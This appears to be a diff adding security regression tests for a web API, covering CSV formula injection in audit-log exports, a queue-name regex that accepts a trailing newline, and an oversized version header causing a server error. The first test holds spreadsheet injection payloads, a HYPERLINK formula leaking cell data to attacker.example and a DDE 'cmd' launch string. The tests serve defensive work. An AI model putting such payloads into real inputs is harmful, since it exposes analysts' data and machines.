@@ -1,0 +1,73 @@
+"""Probe round 2 (attacker's view of today's surfaces: versions in flight, observability, admission).
+
+Each test here fails on the code it was written against because of a real hole; see /work/notes/probe2.md."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+from tests.publishing.test_assets import _create
+from tests.serving.test_serving_data import call, mint, service  # noqa: F401 - fixture
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _flush(app) -> None:
+    from app.extensions import db
+    from app.serving.audit import flush_serving_records
+
+    with app.app_context():
+        flush_serving_records()
+        db.session.remove()
+
+
+def test_csv_export_does_not_hand_caller_controlled_formulas_to_spreadsheets(app, client, admin, service):  # noqa: F811
+    """A key holder (or anyone who knows the asset key and a key) chooses its User-Agent and X-Request-Id; both are
+    written verbatim into the audit log, and the CSV export (meant for an org's analysts, opened in Excel/Sheets)
+    writes them as cells starting with `=`/`+`/`@`: a formula injection (CWE-1236)."""
+    key = mint(client, admin, service, rate_limit=1000)["key"]
+    evil_agent = '=HYPERLINK("http://attacker.example/?x="&A1,"click")'
+    resp = client.get(
+        "/api/service/sales-serving/customer",
+        query_string={"id": "3"},
+        headers={"X-API-Key": key, "User-Agent": evil_agent, "X-Request-Id": "+1+cmd|' /C calc'!A0"},
+    )
+    assert resp.status_code == 200, resp.get_json()
+    _flush(app)
+    export = client.get(
+        f"/api/api-services/{service}/logs/export", headers=admin.headers, query_string={"format": "csv"}
+    )
+    assert export.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(export.get_data(as_text=True))))
+    assert rows, "the call was not exported"
+    mine = [r for r in rows if "attacker.example" in (r["user_agent"] or "")]
+    assert mine, rows
+    for row in mine:
+        for field in ("user_agent", "request_id"):
+            assert not row[field].startswith(FORMULA_STARTS), (field, row[field])
+
+
+def test_a_pool_queue_name_with_a_trailing_newline_is_refused(client, admin, project):
+    """QUEUE_NAME uses `$`, which also matches before a trailing newline: `functions.x\\n` is saved as a queue name
+    (a Redis key, a Celery queue and a worker's -Q argument)."""
+    endpoint = {
+        "id": "f",
+        "kind": "function",
+        "handler": "def handler(payload):\n    return payload\n",
+        "pool": {"queue": "functions.x\n"},
+    }
+    resp = _create(client, admin, project["project_id"], key="pools-nl", endpoints=[endpoint])
+    assert resp.status_code == 422, resp.get_json()
+
+
+def test_a_huge_numeric_forced_version_is_a_400_not_a_500(client, admin, service):  # noqa: F811
+    """`_forced` checks isdigit() then calls int(): past 4300 digits Python refuses the conversion (ValueError), an
+    unhandled 500 for any key, even one without can_force_version (a 5000-digit header fits in gunicorn's 8190-byte header limit)."""
+    key = mint(client, admin, service)["key"]  # any key: the format is checked before can_force_version
+    resp = client.get(
+        "/api/service/sales-serving/customer",
+        query_string={"id": "3"},
+        headers={"X-API-Key": key, "X-Service-Version": "1" * 5000},
+    )
+    assert resp.status_code == 400, resp.status_code
